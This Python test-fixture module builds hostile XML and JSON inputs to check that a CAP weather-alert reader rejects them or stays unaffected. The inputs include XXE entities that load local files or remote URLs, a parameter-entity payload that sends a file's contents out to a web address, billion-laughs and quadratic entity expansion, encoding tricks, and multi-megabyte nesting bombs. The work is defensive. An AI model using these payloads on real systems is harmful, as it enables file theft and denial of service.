"""The known attacks on readers of XML and JSON, each as one body: small where it is a trick, 2 MB where it is bulk."""

from __future__ import annotations

import codecs
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from enum import Enum
from pathlib import Path

DATA = Path(__file__).parent.parent / "data"
XML = (DATA / "cap" / "rainstorm-red.xml").read_text("utf-8")
JSON = json.loads((DATA / "json" / "rainstorm-red.json").read_text("utf-8"))
ALERT = XML[XML.index("<alert") :]

BULK = 2_000_000
"""Bytes of a bulky attack."""


class Expected(Enum):
    """``HARMLESS``: read with no effect, or refused; either will do."""

    REFUSED = "refused"
    HARMLESS = "harmless"


@dataclass(frozen=True, slots=True)
class Attack:
    name: str
    body: bytes
    expected: Expected


def attacks(file_url: str, web_url: str) -> Iterator[Attack]:
    """All of them; the two addresses are bait, which nobody may touch."""
    for name, text in _entities(file_url, web_url):
        yield Attack(name, text.encode(), Expected.REFUSED)
    for name, text in _includes(file_url, web_url):
        yield Attack(name, text.encode(), Expected.HARMLESS)
    for name, body in _disguises(file_url):
        yield Attack(name, body, Expected.REFUSED)
    for name, text in _bulky_xml():
        yield Attack(name, text.encode(), Expected.HARMLESS)
    for name, text in _bulky_json():
        yield Attack(name, text.encode("utf-8", "surrogatepass"), Expected.HARMLESS)


def _inside(content: str, *, before: str = "") -> str:
    """The alert with that content as its description."""
    return before + ALERT.replace("<description>", f"<description>{content}", 1)


def _entities(file_url: str, web_url: str) -> Iterator[tuple[str, str]]:
    for scheme, url in (("file", file_url), ("web", web_url)):
        yield f"entity from {scheme}", _inside("&e;", before=f'<!DOCTYPE alert [<!ENTITY e SYSTEM "{url}">]>')
        yield (
            f"parameter entity from {scheme}",
            _inside("", before=f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{url}"> %p;]>'),
        )
        yield f"DTD from {scheme}", _inside("", before=f'<!DOCTYPE alert SYSTEM "{url}">')
        yield f"public DTD from {scheme}", _inside("", before=f'<!DOCTYPE alert PUBLIC "-//X//Y" "{url}">')
    yield (
        "parameter entities that carry a file away",
        _inside(
            "&out;",
            before=f'<!DOCTYPE a [<!ENTITY % f SYSTEM "{file_url}">'
            f"<!ENTITY % all \"<!ENTITY out SYSTEM '{web_url}?%f;'>\"> %all;]>",
        ),
    )
    laughs = "".join(f'<!ENTITY l{n} "' + f"&l{n - 1};" * 10 + '">' for n in range(1, 12))
    yield "billion laughs", _inside("&l11;", before=f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]>')
    yield (
        "laughs in an attribute's default",
        _inside("", before=f'<!DOCTYPE alert [<!ENTITY l0 "ha">{laughs}<!ATTLIST alert x CDATA "&l11;">]>'),
    )
    half = BULK // 2
    yield (
        "quadratic blow-up",
        _inside("&a;" * (half // 3), before=f'<!DOCTYPE a [<!ENTITY a "{"a" * half}">]>'),
    )
    yield (
        "entity that holds itself",
        _inside("&a;", before='<!DOCTYPE a [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'),
    )
    yield "DOCTYPE after the document", f"{ALERT}<!DOCTYPE alert>"
    yield "DOCTYPE in lower case", _inside("&e;", before='<!doctype a [<!entity e "x">]>')
    yield "entity that nobody declared", _inside("&nobody;")


def _includes(file_url: str, web_url: str) -> Iterator[tuple[str, str]]:
    xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    for scheme, url in (("file", file_url), ("web", web_url)):
        yield (
            f"XInclude from {scheme}",
            _inside(f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" parse="text" href="{url}"/>'),
        )
        yield (
            f"schema from {scheme}",
            ALERT.replace("<alert ", f'<alert {xsi} xsi:schemaLocation="urn:x {url}" ', 1),
        )
        yield f"style sheet from {scheme}", f'<?xml-stylesheet type="text/xsl" href="{url}"?>{ALERT}'
        yield f"base at {scheme}", ALERT.replace("<alert ", f'<alert xml:base="{url}" ', 1)
        yield (
            f"resource at {scheme}",
            ALERT.replace(
                "<area>",
                f"<resource><resourceDesc>x</resourceDesc><mimeType>text/plain</mimeType><uri>{url}</uri></resource><area>",
            ),
        )
    yield "DOCTYPE in CDATA", _inside("<![CDATA[<!DOCTYPE a [<!ENTITY e 'x'>]>&e;]]>")
    yield "DOCTYPE in a comment", _inside("<!-- <!DOCTYPE a> -->")
    yield "DOCTYPE in words", _inside("&lt;!DOCTYPE a>")
    yield "unknown XML version", f'<?xml version="9.9"?>{ALERT}'


def _disguises(file_url: str) -> Iterator[tuple[str, bytes]]:
    declared = _inside("&e;", before=f'<!DOCTYPE alert [<!ENTITY e SYSTEM "{file_url}">]>')
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"):
        yield f"DOCTYPE in {encoding}", declared.encode(encoding)
    for encoding in ("utf-7", "cp037", "cp500", "hz", "iso2022_jp"):
        said = f'<?xml version="1.0" encoding="{encoding}"?>{declared}'
        yield f"DOCTYPE in {encoding}", said.encode(encoding, "replace")
        yield f"DOCTYPE said to be {encoding}", said.encode()
    yield "UTF-7 without a word", b"+ADwAIQ-DOCTYPE alert+AD4-" + ALERT.encode()
    yield "DOCTYPE with NULs", declared.replace("<!DOCTYPE", "<!DOC\0TYPE").encode()
    yield "NUL in a name", ALERT.replace("<info>", "<in\0fo>", 1).encode()
    yield "NUL in the words", _inside("a\0b").encode()
    yield "NUL by its number", _inside("&#0;").encode()
    yield "a surrogate by its number", _inside("&#xD800;").encode()
    yield "UTF-8 longer than it should be", ALERT.encode().replace(b"<info>", b"\xc0\xbcinfo>", 1)
    yield "a UTF-8 mark on UTF-16", codecs.BOM_UTF8 + declared.encode("utf-16-le")
    yield "UTF-16 inside UTF-8", ALERT.encode() + declared.encode("utf-16-le")


def numbered(piece: str, count: int) -> str:
    """The piece so many times, each with its number in the place of ``#``."""
    return "".join(piece.replace("#", str(number)) for number in range(count))


def _bulky_xml() -> Iterator[tuple[str, str]]:
    def filled(piece: str) -> str:
        return piece * (BULK // len(piece.encode()))

    info = ALERT[ALERT.index("<info>") : ALERT.index("</info>") + len("</info>")]
    area = ALERT[ALERT.index("<area>") : ALERT.index("</area>") + len("</area>")]
    places: dict[str, Callable[[str], str]] = {
        "alert": lambda content: ALERT.replace("<info>", f"{content}<info>", 1),
        "info": lambda content: ALERT.replace("<area>", f"{content}<area>", 1),
        "area": lambda content: ALERT.replace("</area>", f"{content}</area>", 1),
    }
    yield "no bottom", "<a>" * (BULK // 3)
    yield "a deep well", "<a>" * (BULK // 7) + "</a>" * (BULK // 7)
    yield "two hundred levels", places["info"]("<a>" * 200 + "</a>" * 200)
    yield "only elements", places["alert"](filled("<a/>"))
    yield "elements with an attribute", places["alert"](filled('<a b=""/>'))
    yield "elements with namespaces", places["alert"](filled('<a xmlns="u"/>'))
    yield "elements and text", places["alert"](filled("a<b/>"))
    yield "a hundred thousand attributes", places["alert"]("<a" + numbered(' a#=""', 150_000) + "/>")
    yield "the same attribute", places["alert"]("<a " + filled('a="" ') + "/>")
    yield "namespaces", places["alert"]("<a" + numbered(' xmlns:a#="u:#"', 80_000) + "/>")
    yield (
        "prefixes used",
        places["alert"](
            "<a" + numbered(' xmlns:a#="u:#"', 20_000) + ">" + numbered("<a#:b/>", 20_000) + "</a>"
        ),
    )
    yield "one long text", _inside(filled("雨"))
    yield "one long attribute", places["alert"](f'<a b="{filled("x")}"/>')
    yield "one long name", places["alert"](f"<{filled('x')}/>")
    yield "one long comment", _inside(f"<!--{filled('x')}-->")
    yield "comments", _inside(filled("<!--x-->"))
    yield "comments in a key", ALERT.replace("<identifier>", f"<identifier>{filled('x<!---->')}", 1)
    yield "instructions", _inside(filled("<?a?>"))
    yield "one long instruction", f"<?a {filled('x')}?>{ALERT}"
    yield "CDATA", _inside(f"<![CDATA[{filled('<')}]]>")
    yield "many CDATA", _inside(filled("<![CDATA[a]]>"))
    yield "references to characters", _inside(filled("&#65;"))
    yield "ampersands", _inside(filled("&amp;"))
    yield "nothing but space", " " * BULK + ALERT
    yield "line breaks", _inside(filled("\r\n"))
    yield "a long declaration", f'<?xml version="1.0" {filled(" ")}?>{ALERT}'
    yield "a declaration that never ends", f"<?xml {filled('x')}"
    yield "a tag that never ends", f"<alert {filled('x ')}"
    yield "angle brackets", filled("<")
    yield "marked sections", filled("<!")
    yield "infos", ALERT.replace(info, filled(info))
    yield "empty infos", places["alert"](filled("<info/>"))
    yield "areas", ALERT.replace(area, filled(area), 1)
    yield "empty areas", places["info"](filled("<area/>"))
    yield "polygons", places["area"](filled("<polygon>33,104 33,105 34,105 33,104</polygon>"))
    yield "one long polygon", places["area"](f"<polygon>{filled('33,104 ')}</polygon>")
    yield "a polygon of commas", places["area"](f"<polygon>{filled(',')}</polygon>")
    yield "circles", places["area"](filled("<circle>33,104 1</circle>"))
    yield (
        "geocodes",
        places["area"](filled("<geocode><valueName>a</valueName><value>621202</value></geocode>")),
    )
    yield (
        "a geocode of codes",
        places["area"](
            f"<geocode><valueName>CPEAS Geographic Code</valueName><value>{filled('621202,')}</value></geocode>"
        ),
    )
    yield (
        "parameters",
        places["info"](filled("<parameter><valueName>a</valueName><value>b</value></parameter>")),
    )
    yield (
        "distinct parameters",
        places["info"](numbered("<parameter><valueName>#</valueName><value>b</value></parameter>", 32_000)),
    )
    yield (
        "references",
        places["alert"](f"<references>{filled('a,b,2026-07-14T08:00:00+08:00 ')}</references>"),
    )
    yield (
        "distinct references",
        places["alert"](f"<references>{numbered('a,#,2026-07-14T08:00:00+08:00 ', 55_000)}</references>"),
    )
    yield "references of commas", places["alert"](f"<references>{filled(',')}</references>")
    yield "a title of signals", ALERT.replace("<headline>", f"<headline>{filled('红色预警由')}")
    yield "a title of brackets", ALERT.replace("<headline>", f"<headline>{filled('[（【')}")
    yield "a number without end", ALERT.replace("<sent>2026", f"<sent>{filled('9')}")
    atom = '<feed xmlns="http://www.w3.org/2005/Atom">'
    yield "a feed", f"{atom}{filled('<entry/>')}</feed>"
    yield "a feed of alerts", f"{atom}{filled(f'<entry><content>{ALERT}</content></entry>')}</feed>"


def _bulky_json() -> Iterator[tuple[str, str]]:
    def holding(key: str, value: str) -> str:
        """The alert with raw JSON under one more, or another, key."""
        return f"{json.dumps(JSON, ensure_ascii=False)[:-1]}, {json.dumps(key)}: {value}}}"

    def filled(piece: str) -> str:
        """An array of that piece."""
        return "[" + ", ".join([piece] * (BULK // (len(piece) + 2))) + "]"

    area = JSON["areas"][0]
    yield "JSON without bottom", "[" * BULK
    yield "nested arrays", holding("x", "[" * 100_000 + "]" * 100_000)
    yield "nested objects", holding("x", '{"a":' * 100_000 + "1" + "}" * 100_000)
    yield "nested parameters", holding("parameters", '{"a":' * 100_000 + "1" + "}" * 100_000)
    yield "a huge integer", holding("x", "9" * BULK)
    yield "a huge integer where a word belongs", holding("identifier", "9" * BULK)
    yield "a huge exponent", holding("x", "1e" + "9" * BULK)
    yield "not a number", holding("x", "[NaN, Infinity, -Infinity]")
    yield "the same key", holding("x", "1" + ', "x": 1' * (BULK // 8))
    yield "the same known key", holding("headline", '"a"' + ', "headline": "b"' * (BULK // 17))
    yield "distinct keys", holding("x", "1" + numbered(', "#": 1', 150_000))
    yield "distinct objects", holding("x", filled('{"a": {}}'))
    yield "half a surrogate pair", holding("headline", r'"\ud800"')
    yield "half a surrogate pair in a key", holding("x", r'{"\udc00": 1}')
    yield "half a surrogate pair in bytes", holding("headline", '"\ud800"')
    yield "NUL in JSON", holding("headline", r'"\u0000"')
    yield "a long word", holding("headline", '"' + "雨" * (BULK // 3) + '"')
    yield "escapes", holding("headline", '"' + r"\u96e8" * (BULK // 6) + '"')
    yield "a long key", holding("x" * BULK, "1")
    yield "areas in JSON", holding("areas", filled(json.dumps(area)))
    yield "empty areas in JSON", holding("areas", filled("{}"))
    yield "codes", holding("areas", '[{"regions": ' + filled('"621202"') + "}]")
    yield "bad codes", holding("areas", '[{"regions": ' + filled('""') + "}]")
    yield "numbers where objects belong", holding("areas", filled("1"))
    yield "points", holding("areas", '[{"polygons": ["' + "33,104 " * (BULK // 7) + '"]}]')
    yield (
        "polygons in JSON",
        holding("areas", '[{"polygons": ' + filled('"33,104 33,105 34,105 33,104"') + "}]"),
    )
    yield "references in JSON", holding("references", filled('{"sender": "a", "identifier": "b"}'))
    yield "texts", holding("texts", '{"en": {}' + numbered(', "x-a#": {}', 110_000) + "}")
    yield "blanks", " " * (BULK // 2) + json.dumps(JSON) + " " * (BULK // 2)
